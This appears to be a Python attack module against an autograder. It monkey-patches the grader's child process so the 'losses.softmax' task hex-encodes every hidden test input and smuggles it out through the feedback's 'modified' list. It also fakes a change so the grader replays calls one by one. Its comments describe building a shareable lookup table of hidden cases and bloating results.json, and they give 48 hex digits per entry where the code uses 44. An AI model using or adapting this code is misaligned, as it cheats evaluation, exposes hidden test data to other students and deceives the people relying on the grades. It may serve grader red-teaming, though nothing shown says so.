# Attack on the feedback: the answer's `modified` list (the inputs a call
# changed, named in the feedback) carries every hidden case the child has
# seen out into the feedback, 48 hex digits an entry behind a marker.
# Batches are answered honestly but for one claimed change in their last
# case, so that the grader replays the part call by call; each single call
# then "modified" thousands of entries: the bytes of every input of the
# part's batch. Collected from the feedback, they make a lookup table of
# the hidden cases (shared by a class when cases are not drawn per
# student); sent in bulk they inflate results.json.
import sys


def _leak_inputs():
    child = sys.modules.get("grader.child")
    if child is None or getattr(child, "_leak_inputs", False):
        return
    honest_call, honest_batch = child.run_one, child.batch
    seen: list[str] = []

    def run_one(task, fn, spec, inputs, seeds, prefix=""):
        outcome = honest_call(task, fn, spec, inputs, seeds, prefix)
        if task.name != "losses.softmax" or not hasattr(outcome, "modified"):
            return outcome
        for name in spec["names"]:
            a = inputs[prefix + name]
            data = a.tobytes().hex()
            seen.append(f"LEAK:{a.dtype}:{'x'.join(map(str, a.shape))}:{spec.get('params')}"[:50])
            seen.extend(f"LEAK={data[i:i + 44]}" for i in range(0, len(data), 44))
        if not prefix:
            outcome.modified = list(seen)
        return outcome

    def batch(task, fn, specs, inputs, seeds):
        header, arrays = honest_batch(task, fn, specs, inputs, seeds)
        outcomes = header.get("outcomes") or []
        if task.name == "losses.softmax" and len(outcomes) > 1 and outcomes[-1].get("status") == "returned":
            outcomes[-1]["modified"] = ["z"]
        return header, arrays

    child.run_one, child.batch = run_one, batch
    child._leak_inputs = True


_leak_inputs()
